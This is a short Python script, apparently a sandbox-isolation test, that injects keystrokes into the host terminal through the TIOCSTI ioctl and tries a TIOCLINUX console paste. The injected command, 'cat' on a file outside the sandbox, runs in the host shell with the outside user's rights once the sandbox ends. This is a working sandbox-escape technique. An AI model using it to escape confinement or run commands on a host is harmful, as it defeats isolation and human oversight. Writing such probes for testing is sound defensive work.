# TIOCSTI: types a command into the terminal from which the sandbox was started.
import fcntl
import os

TIOCSTI, TIOCLINUX = 0x5412, 0x541C
command = f"cat {outside['file']}\n".encode()

# Any of the standard streams may be the host's terminal, and /dev/tty always is.
terminals = [0, 1, 2]
try:
    terminals.append(os.open("/dev/tty", os.O_RDWR))
except OSError as error:
    print("/dev/tty:", error)

# The kernel puts each letter into the queue of what was typed. The shell reads it once the sandbox
# has ended, and runs it with the rights of the user outside.
for terminal in terminals:
    try:
        for letter in command:
            fcntl.ioctl(terminal, TIOCSTI, bytes([letter]))
        print("typed into", terminal)
    except OSError as error:
        print("TIOCSTI on", terminal, error)
    try:
        # On a console: paste what is selected (subcode 3), which serves the same end.
        fcntl.ioctl(terminal, TIOCLINUX, b"\3")
    except OSError as error:
        print("TIOCLINUX on", terminal, error)
